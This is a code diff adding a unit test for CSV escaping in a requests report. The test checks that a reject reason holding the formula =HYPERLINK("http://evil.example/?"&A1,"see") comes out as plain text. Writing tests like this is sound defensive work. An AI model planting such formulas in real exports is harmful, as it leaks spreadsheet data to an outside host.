@@ -40,6 +40,14 @@ describe("the requests report", () => {
     ]);
   });
 
+  it("escapes a formula a spreadsheet would run: a reject reason that builds a link out of the sheet's cells stays text", () => {
+    const attack = '=HYPERLINK("http://evil.example/?"&A1,"see")';
+    const rejected = row({ state: "denied", approvals: [{ id: 3, requestId: 12, approverId: "U0C", verdict: "reject", reason: attack, at }] });
+    const [record] = parse(reportCsv([rejected]), { columns: true }) as Record<string, string>[];
+    expect(record!.reject_reason).toBe(`'${attack}`);
+    expect(record!.refund_amount).toBe("5800");
+  });
+
   it("names the rejecter and the reason", () => {
     const rejected = row({ state: "denied", approvals: [{ id: 3, requestId: 12, approverId: "U0C", verdict: "reject", reason: "fraud", at }] });
     expect(reportRecord(rejected)).toMatchObject({ approvers: "", rejected_by: "U0C", reject_reason: "fraud" });
